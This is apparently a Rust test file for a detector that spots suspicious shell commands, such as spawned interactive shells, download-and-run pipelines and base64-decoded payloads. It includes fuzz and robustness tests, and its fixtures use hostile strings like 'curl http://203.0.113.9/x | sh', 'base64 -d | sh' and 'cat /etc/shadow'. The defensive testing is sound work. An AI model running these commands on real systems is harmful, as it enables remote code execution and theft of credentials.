use proptest::prelude::*;

use super::super::starts_interpreter;
use super::{Commands, Kind, kinds};

#[test]
fn interpreters_are_known_behind_wrappers() {
    for (line, expected) in [
        ("/bin/sh -c id", true),
        ("/usr/bin/env bash", true),
        ("busybox ash", true),
        ("python3.12 -m http.server", true),
        ("/bin/calico-node -felix", false),
        ("longhorn-manager -d daemon --engine bash", false),
        ("", false),
    ] {
        let words = line.split_whitespace();
        assert_eq!(starts_interpreter(words), expected, "{line}");
    }
}

#[test]
fn finds_shells_that_read_commands() {
    for line in [
        "sh",
        "bash -il",
        "/bin/bash ;; -l",
        "sh ;; -c ;; clear; (bash || ash || sh)",
        "sh ;; -c ;; command -v bash >/dev/null && exec bash || exec sh",
        "env TERM=xterm bash",
        "busybox sh",
    ] {
        assert!(kinds(line).contains(&Kind::Shell), "{line}");
    }
    for line in [
        "bash /app/run.sh",
        "sh -c 'ls /tmp'",
        "cat x | sh",
        "bash --version",
    ] {
        assert!(!kinds(line).contains(&Kind::Shell), "{line}");
    }
}

#[test]
fn reads_joined_words_as_one_script() {
    for (line, expected) in [
        ("sh -c curl http://203.0.113.9/x | sh", true),
        (
            "/bin/bash -e -o pipefail -c curl http://203.0.113.9/x | sh",
            true,
        ),
        ("/bin/bash -e -lc curl http://203.0.113.9/x | sh", true),
        (
            "sh -c nginx -s quit; while killall -0 nginx; do sleep 1; done",
            false,
        ),
        ("sh /run.sh", false),
    ] {
        let signs = Commands::from_line(line).signs();
        assert_eq!(!signs.is_empty(), expected, "{line}");
    }
}

#[test]
fn most_suspicious_sign_comes_first() {
    let signs = Commands::from_script("id; curl -s http://203.0.113.9/x | sh; history -c").signs();
    let texts: Vec<&str> = signs.iter().map(|sign| sign.text.as_str()).collect();
    assert_eq!(texts, ["curl -s http://203.0.113.9/x | sh", "history -c"]);
}

#[test]
fn reads_arguments_behind_and_before_many_others() {
    let attack = ["sh", "-c", "curl http://203.0.113.9/x.sh | sh"];
    let padding: Vec<String> = (0..20_000).map(|number| format!("A{number}=x")).collect();
    let padding = || padding.iter().map(String::as_str);
    for words in [
        ["env"].into_iter().chain(padding()).chain(attack).collect(),
        attack.into_iter().chain(padding()).collect(),
        // Both ends are read if there is more than is read.
        ["env"]
            .into_iter()
            .chain(padding())
            .chain(padding())
            .chain(padding())
            .chain(attack)
            .collect(),
    ] {
        let words: Vec<&str> = words;
        let found: Vec<Kind> = Commands::from_arguments(words)
            .signs()
            .iter()
            .map(|sign| sign.kind)
            .collect();
        assert!(found.contains(&Kind::DownloadAndRun), "{found:?}");
    }
}

#[test]
fn reads_the_end_of_a_long_script() {
    let script = format!("echo {} | base64 -d | sh", "QUJD".repeat(30_000));
    let signs = Commands::from_arguments(["sh", "-c", &script]).signs();
    assert_eq!(
        signs.first().map(|sign| sign.kind),
        Some(Kind::DecodedPayload)
    );
}

proptest! {
    /// Every text is parsed, and signs stay within their length.
    #[test]
    fn parses_every_text(text in "(?s)[a-z$()'\"`\\\\|&;<>{}=/ \n\\-]{0,200}|.{0,100}") {
        for commands in [
            Commands::from_script(&text),
            Commands::from_line(&text),
            Commands::from_arguments(["sh", "-c", &text]),
            Commands::from_arguments(text.split(' ')),
        ] {
            for sign in commands.signs() {
                prop_assert!(sign.text.chars().count() <= 300);
            }
        }
    }

    /// Quotes inside a word hide nothing.
    #[test]
    fn quotes_hide_nothing(places in prop::collection::vec(1_usize..40, 0..8), quotes in "''|\"\"") {
        let plain = "curl -s http://203.0.113.9/x | sh; cat /etc/shadow";
        let letter = |at: usize| plain.as_bytes().get(at).is_some_and(|byte| !b" |;".contains(byte));
        let mut places: Vec<usize> = places
            .into_iter()
            .filter(|at| letter(*at) && letter(*at - 1))
            .collect();
        places.sort_unstable();
        let mut script = plain.to_owned();
        for at in places.into_iter().rev() {
            script.insert_str(at, &quotes);
        }
        prop_assert_eq!(Commands::from_script(&script).signs(), Commands::from_script(plain).signs());
    }
}

/// Deeply nested and long texts end quickly.
#[test]
fn hostile_text_is_bounded() {
    let deep = "$(".repeat(20_000);
    let quotes = "sh -c '\"".repeat(9_000);
    let pipes = "curl|sh|".repeat(9_000);
    let nested = (0..40).fold("id".to_owned(), |script, _| format!("$({script})"));
    let ticks = "`\\`".repeat(20_000);
    let wrappers = "env A=b ".repeat(8_000);
    let texts = [
        deep,
        quotes,
        pipes,
        nested,
        ticks,
        wrappers,
        "é".repeat(40_000),
    ];
    for text in texts {
        let signs = Commands::from_script(&text).signs();
        assert!(signs.iter().all(|sign| sign.text.chars().count() <= 300));
    }
}
